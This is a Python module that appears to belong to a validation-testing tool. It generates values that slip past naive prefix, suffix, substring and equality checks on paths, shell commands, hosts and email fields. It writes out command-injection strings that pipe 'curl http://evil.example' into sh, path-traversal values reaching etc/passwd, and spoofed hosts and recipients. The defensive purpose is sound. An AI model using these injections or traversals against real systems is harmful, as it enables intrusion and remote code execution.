"""Values that pass a test of text and are not what its sentence speaks of: other spellings, and ways out."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

PREFIX, SUFFIX, CONTAINS, EQUAL = "startswith", "endswith", "contains", "equal"
_PATHS = frozenset(("path", "file", "filename", "folder", "directory", "dir", "document"))
_COMMANDS = frozenset(("command", "cmd", "shell", "script"))
_HOSTS = frozenset(("url", "uri", "link", "host", "hostname", "domain", "site", "website", "endpoint"))
_MAILS = frozenset(("email", "mail", "recipient", "recipients", "sender", "cc", "bcc"))
_WORDS = re.compile(r"[A-Z]?[a-z]+|[A-Z]+(?![a-z])")
_HOST = re.compile(r"(?:[\w-]+\.)+[a-z]{2,}", re.IGNORECASE)
_EVIL = "evil.example"
SEVERAL_PROGRAMS = (";", "&", "|", "`", "$(", "<(")
"""What puts a second program into a command, besides a line break."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A value that a test takes for another: what it is, and what closes it.

    The test holds of ``value`` and not of ``other``, or not of ``value`` and of ``other``, whose spelling it
    is: ``other`` is what a person thinks of. ``marks`` are texts that no harmless value has. ``constant`` is
    a text to test instead, and ``folds`` is whether case and blanks are to be left out of account.
    """

    value: str
    other: str
    why: str
    marks: tuple[str, ...] = ()
    constant: str = ""
    folds: bool = False


def hostile_values(field: str, test: str, text: str) -> Iterator[Hostile]:
    """Yield the values that a test of the text of a field takes for others."""
    match kind_of(field, text):
        case "path":
            yield from _paths(test, text)
        case "command":
            yield from _commands(test, text)
        case "host":
            yield from _hosts(test, text)
        case "mail":
            yield from _mails(test, text)
        case _:
            yield from _other_cases(test, text)


def kind_of(field: str, text: str) -> str:
    """What a text seems to be, by the name of its field and what it is compared with."""
    words = {one.lower() for one in _WORDS.findall(field)}
    if words & _COMMANDS:
        return "command"
    if words & _MAILS or re.search(r"^[\w.+-]*@[\w.-]+$", text):
        return "mail"
    if words & _HOSTS or "://" in text:
        return "host"
    if words & _PATHS or text.startswith(("./", "/", "~/")) or re.fullmatch(r"[\w.-]+(/[\w.-]*)+", text):
        return "path"
    return "host" if _HOST.fullmatch(text.lstrip(".")) and "." in text else ""


def _paths(test: str, text: str) -> Iterator[Hostile]:
    up = (text.count("/") + 1) * "../"
    marks = ("../", "/..", "./", "//")
    leaves = f"it leads out of “{text}” by “..”"
    again = f"it is another spelling of “{text}”"
    match test:
        case "startswith":
            if not text.startswith(".."):
                yield Hostile(
                    f"{text}{'' if text.endswith('/') else '/'}{up}etc/passwd", "x", leaves, marks[:2]
                )
            if not text.startswith(("/", "./", "~")):
                yield Hostile(f"./{text}x", f"{text}x", again, marks)
                yield Hostile(f"x/../{text}x", f"{text}x", again, marks)
            else:
                yield Hostile(f"/x/..{text}x", f"{text}x", again, marks)
        case "endswith":
            yield Hostile(f"../../x{text}", "x", "it leads out of every folder by “..”", marks[:2])
        case "contains":
            yield Hostile(f"{text}/../../etc/passwd", "x", leaves, marks[:2])
        case _:
            if text.startswith("/"):
                yield Hostile(f"/x/..{text}", text, again, marks)
            else:
                yield Hostile(f"./{text}", text, again, marks)
                yield Hostile(f"x/../{text}", text, again, marks)


def _commands(test: str, text: str) -> Iterator[Hostile]:
    marks = SEVERAL_PROGRAMS
    second = "it runs a second program"
    again = f"it runs “{text.strip()}” too"
    if test == PREFIX:
        yield Hostile(f"{text.rstrip()} ; curl http://{_EVIL} | sh", "x", second, marks)
        yield Hostile(f"{text.rstrip()} $(curl http://{_EVIL})", "x", second, marks)
    if test in (CONTAINS, SUFFIX):
        yield Hostile(f"curl http://{_EVIL} | sh ; {text}", "x", second, marks)
    if test in (PREFIX, EQUAL):
        yield Hostile(f"true ; {text}", text, again, marks)
        yield Hostile(f"/usr/bin/env {text}", text, again)
    if test == CONTAINS and " " in text.strip():
        yield Hostile(text.strip().replace(" ", "  ", 1), text, again)


def _hosts(test: str, text: str) -> Iterator[Hostile]:
    bare = text.rstrip("/") == text and not re.search(r"[^/:]/[^/]", text.partition("://")[2] or text)
    scheme, host = ("", text) if "://" not in text else (f"{text.partition('://')[0]}://", text)
    match test:
        case "startswith":
            if bare and not text.endswith("://"):
                yield Hostile(
                    f"{text}.{_EVIL}/", "x", f"its host only begins like “{text}”", constant=f"{text}/"
                )
            yield Hostile(host.upper(), text, f"it is “{text}” in other letters", folds=True)
        case "endswith":
            if not text.startswith((".", "@", "/")) and not scheme:
                yield Hostile(f"evil{text}", "x", f"its host only ends like “{text}”", constant=f".{text}")
            yield Hostile(
                f"x{text.upper()}", f"x{text}", f"it ends with “{text}” in other letters", folds=True
            )
        case "contains":
            yield Hostile(f"https://{_EVIL}/?{text}", "x", f"its host is {_EVIL}")
            yield Hostile(text.upper(), text, f"it has “{text}” in other letters", folds=True)
        case _:
            yield Hostile(text.upper(), text, f"it is “{text}” in other letters", folds=True)


def _mails(test: str, text: str) -> Iterator[Hostile]:
    if test == SUFFIX and not text.startswith("@"):
        yield Hostile(
            f"x@evil{text.lstrip('.')}", "x", f"its host only ends like “{text}”", constant=f"@{text}"
        )
    if test == SUFFIX:
        yield Hostile(
            f"x@{_EVIL}, y{text if '@' in text else f'@{text}'}", "x", "it names two people", (",", ";")
        )
    if test == CONTAINS:
        yield Hostile(f"x{text if '@' in text else f'@{text}'}.{_EVIL}", "x", f"its host is within {_EVIL}")
    if test != SUFFIX:
        yield Hostile(text.upper(), text, f"it is “{text}” in other letters", folds=True)


def _other_cases(test: str, text: str) -> Iterator[Hostile]:
    """Another case of a name or id, and a blank before it."""
    if test != EQUAL or not text.strip():
        return
    other = next((one for one in (text.upper(), text.lower()) if one != text), "")
    if other:
        yield Hostile(other, text, f"it differs from “{text}” in case alone", folds=True)
    yield Hostile(f" {text}", text, f"it is “{text}” after a blank", folds=True)
